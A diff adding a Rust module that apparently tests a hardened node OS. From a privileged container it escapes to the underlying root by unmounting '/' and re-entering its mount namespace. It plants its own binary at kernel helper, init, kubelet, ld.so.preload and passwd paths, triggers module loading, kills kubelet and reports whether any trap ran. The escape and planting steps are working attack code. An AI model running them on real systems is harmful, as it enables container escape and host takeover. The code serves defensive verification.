@@ -1,0 +1,222 @@
+//! A privileged container that climbs out of its root, and what it can do from there.
+//!
+//! Below every container's root lies the root that the kernel unpacked its archive into: a mount
+//! can be taken away with `umount("/")`, and entering the own mount namespace once more then sets the
+//! root to what is left (`mntns_install()` in the kernel's `fs/namespace.c`). Nothing can
+//! forbid that to `CAP_SYS_ADMIN`; so there must be nothing of worth, and nobody who reads it.
+//!
+//! The escape plants traps there: programs that leave a mark when executed ([`crate::trap`]), and
+//! files that are watched for being opened. Then it makes the kernel call its helper and PID 1 start
+//! a host process, and reports. Every line is the same on each node that holds.
+
+use std::fs;
+use std::os::fd::AsFd;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::thread;
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, bail};
+use rustix::fs::inotify::{self, CreateFlags, WatchFlags};
+use rustix::fs::{Mode, OFlags, RawDir, statfs};
+use rustix::mount::{MountFlags, UnmountFlags, mount, mount_remount, unmount};
+use rustix::net::{AddressFamily, SocketType, socket};
+use rustix::thread::{LinkNameSpaceType, UnshareFlags, move_into_link_name_space, unshare_unsafe};
+
+use crate::{node, trap};
+
+/// Programs that the kernel (`kernel/umh.c` and its callers) or PID 1 executes by these paths.
+const PROGRAMS: [&str; 9] = [
+    "/init",
+    "/sbin/init",
+    "/sbin/modprobe",
+    "/sbin/poweroff",
+    "/sbin/request-key",
+    "/usr/bin/containerd",
+    "/usr/bin/kubelet",
+    "/usr/bin/modprobe",
+    "/usr/lib/kiln/init",
+];
+
+/// Files that a host process could take for the host's.
+const FILES: [&str; 6] = [
+    "/etc/hostname",
+    "/etc/ld.so.preload",
+    "/etc/modprobe.d/planted.conf",
+    "/etc/passwd",
+    "/etc/kubernetes/manifests/planted.yaml",
+    "/root.erofs",
+];
+
+/// A protocol family that no kernel here has (`AF_APPLETALK`). `socket(2)` asks for `net-pf-5`.
+const NO_FAMILY: u16 = 5;
+
+/// A file system that is a module in the root, and that nothing on a node has loaded.
+const MODULE: &str = "squashfs";
+
+/// The host process that is made to start anew.
+const VICTIM: &str = "kubelet";
+
+/// How long PID 1 may take for that; its longest pause between two starts is shorter.
+const RESTART: Duration = Duration::from_mins(3);
+
+/// Still there at the end, so that "nothing was opened" is about files that existed.
+const PLANTED: &str = PROGRAMS[0];
+
+/// The kernel's `RAMFS_MAGIC` and `TMPFS_MAGIC` (`include/uapi/linux/magic.h`).
+const RAMFS: u64 = 0x8584_58f6;
+const TMPFS: u64 = 0x0102_1994;
+
+/// Escapes, reports on standard output.
+pub(crate) fn run() -> Result<()> {
+    let program = fs::read("/proc/self/exe").context("reading this program")?;
+    climb_out()?;
+    println!("reached {}", reached()?);
+    make_writable()?;
+    plant(&program)?;
+    let watch = watch()?;
+    call_helper()?;
+    restart_victim()?;
+    report(&watch)
+}
+
+fn climb_out() -> Result<()> {
+    // SAFETY: this process has one thread, and the flag does not touch its file descriptors.
+    unsafe { unshare_unsafe(UnshareFlags::NEWNS) }.context("unshare(CLONE_NEWNS)")?;
+    let namespace = fs::File::open("/proc/self/ns/mnt").context("opening the mount namespace")?;
+    unmount("/", UnmountFlags::DETACH).context("unmounting /")?;
+    move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Mount))
+        .context("entering it again")
+}
+
+/// What lies there: file system and entries.
+fn reached() -> Result<String> {
+    let kind = match u64::try_from(statfs("/").context("statfs of /")?.f_type) {
+        Ok(RAMFS) => "ramfs".to_owned(),
+        Ok(TMPFS) => "tmpfs".to_owned(),
+        other => format!("a file system {other:x?}"),
+    };
+    let names = names("/")?;
+    Ok(if names.is_empty() {
+        format!("an empty {kind}")
+    } else {
+        format!("a {kind} with {}", names.join(" "))
+    })
+}
+
+fn names(dir: &str) -> Result<Vec<String>> {
+    let folder = rustix::fs::open(dir, OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty())
+        .context("opening /")?;
+    let mut buffer = Vec::with_capacity(4096);
+    let mut entries = RawDir::new(&folder, buffer.spare_capacity_mut());
+    let mut names = Vec::new();
+    while let Some(entry) = entries.next() {
+        let name = entry.context("reading /")?.file_name().to_string_lossy().into_owned();
+        if name != "." && name != ".." {
+            names.push(name);
+        }
+    }
+    names.sort();
+    Ok(names)
+}
+
+/// Takes every read-only flag away, of the mount and of the file system.
+fn make_writable() -> Result<()> {
+    mount_remount("/", MountFlags::BIND, "").context("remounting the mount")?;
+    mount_remount("/", MountFlags::empty(), "").context("remounting the file system")
+}
+
+fn plant(program: &[u8]) -> Result<()> {
+    for path in PROGRAMS.iter().chain(&FILES) {
+        let path = Path::new(path);
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent).with_context(|| format!("making {}", parent.display()))?;
+        }
+        fs::write(path, program).with_context(|| format!("planting {}", path.display()))?;
+        fs::set_permissions(path, fs::Permissions::from_mode(0o755))?;
+    }
+    println!("planted {} files", PROGRAMS.len() + FILES.len());
+    Ok(())
+}
+
+/// An open or executed file makes an event, by whatever path and from whatever namespace it was reached.
+fn watch() -> Result<rustix::fd::OwnedFd> {
+    let watch = inotify::init(CreateFlags::NONBLOCK | CreateFlags::CLOEXEC).context("inotify")?;
+    for path in PROGRAMS.iter().chain(&FILES) {
+        inotify::add_watch(&watch, *path, WatchFlags::OPEN | WatchFlags::ACCESS)
+            .with_context(|| format!("watching {path}"))?;
+    }
+    Ok(watch)
+}
+
+/// Makes the kernel execute its module loader twice: once in vain, once for a module that the host has.
+fn call_helper() -> Result<()> {
+    if socket(AddressFamily::from_raw(NO_FAMILY), SocketType::DGRAM, None).is_ok() {
+        bail!("protocol family {NO_FAMILY} is there: the kernel did not have to ask for it");
+    }
+    fs::create_dir_all("/proc").context("making /proc")?;
+    mount("proc", "/proc", "proc", MountFlags::empty(), None).context("mounting /proc")?;
+    let path =
+        fs::read_to_string("/proc/sys/kernel/modprobe").context("reading the helper's path")?;
+    println!("helper {}", path.trim());
+    println!("before {MODULE} {}", known(MODULE)?);
+    // Fails for want of a disk, after the kernel has asked for the module.
+    let _ = mount("none", "/proc", MODULE, MountFlags::empty(), None);
+    println!("after {MODULE} {}", known(MODULE)?);
+    let pattern =
+        fs::read_to_string("/proc/sys/kernel/core_pattern").context("reading core_pattern")?;
+    println!(
+        "core dumps go to {}",
+        if pattern.starts_with('|') { pattern.trim() } else { "files" }
+    );
+    Ok(())
+}
+
+fn known(kind: &str) -> Result<&'static str> {
+    let list = fs::read_to_string("/proc/filesystems").context("reading /proc/filesystems")?;
+    let found = list.split_ascii_whitespace().any(|word| word == kind);
+    Ok(if found { "known" } else { "unknown" })
+}
+
+fn restart_victim() -> Result<()> {
+    let old = node::find(VICTIM)?.pid;
+    node::kill(VICTIM)?;
+    let start = Instant::now();
+    while start.elapsed() < RESTART {
+        if node::find(VICTIM).is_ok_and(|process| process.pid != old) {
+            println!("{VICTIM} restarted");
+            return Ok(());
+        }
+        thread::sleep(Duration::from_millis(200));
+    }
+    bail!("{VICTIM} did not come back within {} s", RESTART.as_secs())
+}
+
+fn report(watch: &rustix::fd::OwnedFd) -> Result<()> {
+    let mark = trap::MARK.trim_start_matches('/');
+    let executed: Vec<String> =
+        names("/")?.into_iter().filter(|name| name.starts_with(mark)).collect();
+    println!(
+        "executed: {}",
+        if executed.is_empty() { "nothing".to_owned() } else { executed.join(" ") }
+    );
+    let events = events(watch)?;
+    println!(
+        "opened: {}",
+        if events == 0 { "nothing".to_owned() } else { format!("{events} times") }
+    );
+    rustix::fs::access(PLANTED, rustix::fs::Access::EXISTS).context("the planted files are gone")
+}
+
+fn events(watch: &rustix::fd::OwnedFd) -> Result<usize> {
+    let mut buffer = [std::mem::MaybeUninit::uninit(); 4096];
+    let mut reader = inotify::Reader::new(watch, &mut buffer);
+    let mut count = 0;
+    loop {
+        match reader.next() {
+            Ok(_) => count += 1,
+            Err(rustix::io::Errno::AGAIN) => return Ok(count),
+            Err(error) => return Err(error).context("reading inotify"),
+        }
+    }
+}
